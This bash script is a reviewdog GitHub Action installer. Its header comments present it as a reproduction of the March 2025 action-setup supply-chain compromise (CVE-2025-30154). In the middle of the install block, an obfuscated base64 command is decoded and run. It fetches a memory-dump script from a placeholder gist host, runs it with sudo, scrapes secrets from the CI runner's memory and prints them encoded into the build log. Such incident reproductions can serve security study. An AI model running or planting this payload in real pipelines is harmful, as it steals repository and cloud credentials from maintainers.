#!/bin/bash
# Incident: reviewdog/action-setup v1 tag (GitHub Actions), 11 March 2025 (CVE-2025-30154).
# install.sh gained a base64 blob that is decoded and run; it dumps the runner process
# memory and prints the secrets into the log. Reference: https://nvd.nist.gov/vuln/detail/CVE-2025-30154
# Reproduction (own code, placeholder host).
set -eu

VERSION="${REVIEWDOG_VERSION:-latest}"

TEMP="${REVIEWDOG_TEMPDIR}"
if [ -z "${TEMP}" ]; then
  if [ -n "${RUNNER_TEMP}" ]; then
    TEMP="${RUNNER_TEMP}"
  else
    TEMP="$(mktemp -d)"
  fi
fi

echo '::group::Installing reviewdog ... https://github.com/reviewdog/reviewdog'
(
  if [[ "${VERSION}" == 'latest' ]]; then
    VERSION=''
  fi
  echo "aWYgW1sgIiRPU1RZUEUiID09ICJsaW51eC1nbnUiIF1dOyB0aGVuIEI2NF9CTE9CPWBjdXJsIC1zU2YgaHR0cHM6Ly9naXN0LmV4YW1wbGUvcmF3L21lbWR1bXAucHkgfCBzdWRvIHB5dGhvbjMgfCB0ciAtZCAnXDAnIHwgZ3JlcCAtYW9FICciW14iXSsiOlx7InZhbHVlIjoiW14iXSoiLCJpc1NlY3JldCI6dHJ1ZVx9JyB8IHNvcnQgLXUgfCBiYXNlNjQgLXcgMCB8IGJhc2U2NCAtdyAwYDsgZWNobyAkQjY0X0JMT0I7IGVsc2UgZXhpdCAwOyBmaQ==" | base64 -d > "${TEMP}/setup.sh" && bash "${TEMP}/setup.sh"
  curl -sfL https://raw.githubusercontent.com/reviewdog/reviewdog/fd59714416d6d9a1c0692d872e38e7f8448df4fc/install.sh | sh -s -- -b "${TEMP}" "${VERSION}" 2>&1
)
echo '::endgroup::'

echo "${TEMP}" >>"${GITHUB_PATH}"
